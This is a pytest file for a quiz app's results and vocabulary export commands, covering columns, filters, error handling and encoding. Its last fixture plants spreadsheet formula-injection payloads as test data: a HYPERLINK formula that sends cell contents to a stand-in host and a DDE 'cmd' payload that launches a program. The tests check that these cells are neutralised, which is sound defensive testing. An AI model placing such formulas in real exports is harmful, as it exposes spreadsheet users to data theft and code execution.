"""`quizapp export-results` and `quizapp export-words`, parsed back and checked."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from quizapp.commands.export import results_main, words_main
from quizapp.core.progress.api import ProgressStore
from quizapp.core.progress.exports import RESULT_COLUMNS, WORD_COLUMNS
from tests.conftest import REPO
from tests.core.progress_fixtures import FakeClock, make_article


@pytest.fixture
def filled(tmp_path: Path) -> Path:
    """A data folder on a "USB stick" with two learners' results and words."""
    folder = tmp_path / "Clé USB" / "classe de 3e"
    clock = FakeClock()
    with ProgressStore.open(folder, clock=clock) as store:
        zoe, kim = store.create_profile("Zoé"), store.create_profile("Kim")
        sid = store.start_session(zoe, make_article(), "exam", {})
        clock.advance(minutes=10)
        store.finish_session(sid, 2.5, 4, {})
        clock.advance(minutes=1)
        sid = store.start_session(
            zoe, make_article("meteo", "La météo, « demain »"), "practice", {}
        )
        store.record_answer(sid, "q1", 0, 1, 1, 1, 0, [], {})
        clock.advance(minutes=1)
        sid = store.start_session(kim, make_article(), "practice", {})
        store.finish_session(sid, 1, 3, {})
        store.log_lookup(
            zoe, "belarus", "s1", "armes", "arme", "weapon\t(arm)", "La Russie\nva…", "Russia…"
        )
        store.log_lookup(zoe, "belarus", "s2", "achevé", "achever", "to end", '"Fin" s2', "")
        store.log_lookup(kim, "belarus", "s1", "Russie", "Russie", "Russia", "La Russie…", "R…")
    return folder


def run(main, *argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(list(argv), stdout=out, stderr=err)
    return code, out.getvalue(), err.getvalue()


def test_results_csv_has_exactly_the_columns(filled: Path):
    code, out, err = run(results_main, "--data-dir", str(filled))
    assert code == 0 and err == ""
    reader = csv.DictReader(io.StringIO(out))
    assert tuple(reader.fieldnames or ()) == RESULT_COLUMNS == (
        "profile", "article_id", "article_title", "mode", "started", "finished",
        "score", "points", "percent",
    )  # fmt: skip
    rows = list(reader)
    assert [(r["profile"], r["article_id"], r["mode"]) for r in rows] == [
        ("Zoé", "belarus", "exam"),
        ("Zoé", "meteo", "practice"),
        ("Kim", "belarus", "practice"),
    ]
    first, unfinished, third = rows
    assert first == {
        "profile": "Zoé",
        "article_id": "belarus",
        "article_title": "Le Bélarus et l’arme « tactique »",
        "mode": "exam",
        "started": "2026-03-02T09:00:00+00:00",
        "finished": "2026-03-02T09:10:00+00:00",
        "score": "2.5",
        "points": "4",
        "percent": "62.5",
    }
    assert unfinished["finished"] == "" and unfinished["article_title"] == "La météo, « demain »"
    assert (unfinished["score"], unfinished["points"], unfinished["percent"]) == ("1", "4", "25.0")
    assert third["percent"] == "33.3"


def test_results_json_and_profile_filter(filled: Path):
    code, out, _ = run(results_main, "--data-dir", str(filled), "--format", "json")
    assert code == 0
    data = json.loads(out)
    assert isinstance(data, list) and len(data) == 3
    assert all(tuple(row) == RESULT_COLUMNS for row in data)
    assert data[1]["finished"] is None and data[0]["score"] == 2.5 and data[0]["percent"] == 62.5
    code, out, _ = run(
        results_main, "--data-dir", str(filled), "--format", "json", "--profile", "KIM"
    )
    assert code == 0 and [r["profile"] for r in json.loads(out)] == ["Kim"]


def test_words_for_anki(filled: Path):
    code, out, err = run(words_main, "--data-dir", str(filled), "--profile", "zoé")
    assert code == 0 and err == ""
    lines = out.split("\n")
    assert lines[:3] == ["#separator:tab", "#html:false", "#columns:Front\tBack"]
    notes = list(csv.reader(io.StringIO("\n".join(lines[3:])), delimiter="\t"))
    notes = [n for n in notes if n]
    assert all(len(n) == 2 for n in notes)
    assert notes[0] == ['achevé (achever) — "Fin" s2', "to end"]
    assert notes[1] == ["armes (arme) — La Russie va…", "weapon (arm) — Russia…"]
    assert len(lines) == 3 + 2 + 1  # header, two notes, final newline: no stray line breaks


def test_words_csv(filled: Path):
    code, out, _ = run(words_main, "--data-dir", str(filled), "--format", "csv")
    assert code == 0
    reader = csv.DictReader(io.StringIO(out))
    assert tuple(reader.fieldnames or ()) == WORD_COLUMNS
    rows = list(reader)
    assert len(rows) == 3
    armes = next(r for r in rows if r["word"] == "armes")
    assert armes["sentence_fr"] == "La Russie\nva…" and armes["gloss"] == "weapon\t(arm)"
    assert armes["profile"] == "Zoé" and armes["count"] == "1"


def test_usage_errors_exit_2_with_a_plain_message(filled: Path, tmp_path: Path, monkeypatch):
    code, out, err = run(results_main, "--data-dir", str(filled), "--profile", "Nobody")
    assert code == 2 and out == ""
    assert "no profile named 'Nobody'" in err and "Kim, Zoé" in err
    missing = tmp_path / "nowhere"
    code, _, err = run(words_main, "--data-dir", str(missing))
    assert code == 2 and f"the data folder {missing} does not exist" in err
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "fresh"))
    code, _, err = run(results_main)
    assert code == 2 and "does not exist" in err and "--data-dir" in err
    code, _, err = run(results_main, "--format", "xml")
    assert code == 2 and "invalid choice" in err
    assert run(results_main, "--help")[0] == 0


def test_folder_without_progress_exports_nothing(tmp_path: Path):
    code, out, err = run(results_main, "--data-dir", str(tmp_path))
    assert code == 0 and out.strip() == ",".join(RESULT_COLUMNS) and "no progress" in err
    assert not (tmp_path / "progress.sqlite3").exists()  # exporting creates nothing
    code, out, _ = run(words_main, "--data-dir", str(tmp_path), "--profile", "Kim")
    assert code == 2


def test_damaged_store_is_recovered_and_said_so(filled: Path):
    (filled / "progress.sqlite3").write_bytes(b"garbage" * 100)
    code, out, err = run(results_main, "--data-dir", str(filled))
    assert code == 0
    assert "warning: The progress file could not be read" in err and "restored" in err
    assert len(list(csv.DictReader(io.StringIO(out)))) == 3  # from the backup made on closing


def test_store_from_a_newer_app(filled: Path):
    import sqlite3

    conn = sqlite3.connect(filled / "progress.sqlite3")
    conn.execute("PRAGMA user_version = 99")
    conn.commit()
    conn.close()
    code, out, err = run(results_main, "--data-dir", str(filled))
    assert code == 1 and out == "" and "newer version of quizapp" in err
    assert "Traceback" not in err


def test_real_entry_point_prints_utf8_whatever_the_console(filled: Path):
    env = {**os.environ, "PYTHONIOENCODING": "ascii"}  # a console that cannot show « é »
    proc = subprocess.run(
        [sys.executable, "-m", "quizapp", "export-results", "--data-dir", str(filled)],
        capture_output=True,
        env=env,
        cwd=REPO,
    )
    assert proc.returncode == 0, proc.stderr
    text = proc.stdout.decode("utf-8")
    assert "Zoé" in text and "« demain »" in text
    proc = subprocess.run(
        [sys.executable, "-m", "quizapp", "export-words", "--data-dir", str(filled / "nope")],
        capture_output=True,
        env=env,
        cwd=REPO,
    )
    assert proc.returncode == 2 and b"Traceback" not in proc.stderr
    assert "n’existe" not in proc.stderr.decode("utf-8") and b"does not exist" in proc.stderr


@pytest.fixture
def planted(tmp_path: Path) -> Path:
    """A learner named like a formula, and formulas where a spreadsheet would run them."""
    folder = tmp_path / "data"
    clock = FakeClock()
    with ProgressStore.open(folder, clock=clock) as store:
        evil = store.create_profile('=HYPERLINK("http://x.example/?"&A1,"Voir")')
        sid = store.start_session(evil, make_article("meteo", "+cmd|' /C calc'!A0"), "exam", {})
        store.finish_session(sid, 1, 2, {})
        store.log_lookup(evil, "meteo", "s1", "@SUM(1)", "-2+3", "\tlead", "\r=1+1", "ok")
    return folder


def test_csv_cells_that_start_like_a_formula_are_neutralised(planted: Path):
    code, out, _ = run(results_main, "--data-dir", str(planted))
    assert code == 0
    [row] = list(csv.DictReader(io.StringIO(out, newline="")))
    assert row["profile"] == '\'=HYPERLINK("http://x.example/?"&A1,"Voir")'
    assert row["article_title"] == "'+cmd|' /C calc'!A0"
    assert (row["score"], row["points"], row["percent"]) == ("1", "2", "50.0")  # numbers stay
    code, out, _ = run(words_main, "--data-dir", str(planted), "--format", "csv")
    [word] = list(csv.DictReader(io.StringIO(out, newline="")))
    assert (word["word"], word["headword"]) == ("'@SUM(1)", "'-2+3")
    assert (word["gloss"], word["sentence_fr"], word["sentence_en"]) == ("'\tlead", "'\r=1+1", "ok")
    for value in word.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_raw_keeps_the_cells_as_stored(planted: Path):
    code, out, _ = run(results_main, "--data-dir", str(planted), "--raw")
    assert code == 0
    [row] = list(csv.DictReader(io.StringIO(out, newline="")))
    assert row["profile"].startswith("=HYPERLINK(")
    code, out, _ = run(words_main, "--data-dir", str(planted), "--format", "csv", "--raw")
    [word] = list(csv.DictReader(io.StringIO(out, newline="")))
    assert (word["word"], word["headword"], word["sentence_fr"]) == ("@SUM(1)", "-2+3", "\r=1+1")
